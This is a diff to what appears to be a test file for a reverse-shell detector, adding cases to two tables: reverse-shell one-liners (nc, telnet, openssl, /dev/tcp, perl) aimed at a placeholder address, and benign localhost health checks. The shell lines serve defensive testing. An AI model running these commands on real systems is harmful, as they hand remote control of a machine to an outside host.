@@ -12,6 +12,7 @@ describe('a shell for another machine', () => {
     ['mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:1 > /tmp/s'],
     ['mknod /tmp/b p && telnet 192.0.2.1 1 0</tmp/b | /bin/bash 1>/tmp/b'],
     ['nc 192.0.2.1 4444 | sh'],
+    ['0<&9; exec 9<>/dev/tcp/192.0.2.1/4444; sh <&9 >&9 2>&9'],
     [
       `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");'`,
     ],
@@ -25,6 +26,7 @@ describe('a shell for another machine', () => {
 
   it.each([
     ['nc -z localhost 5432 && sh start.sh'],
+    ['exec 3<>/dev/tcp/localhost/5432 && echo up'],
     ['echo ruok | nc localhost 2181 | grep imok'],
     ['sh numbers.sh | nc graphite.example.com 2003'],
     ['mkfifo /tmp/log; tee log.txt < /tmp/log & sh build.sh > /tmp/log; nc -z localhost 1'],
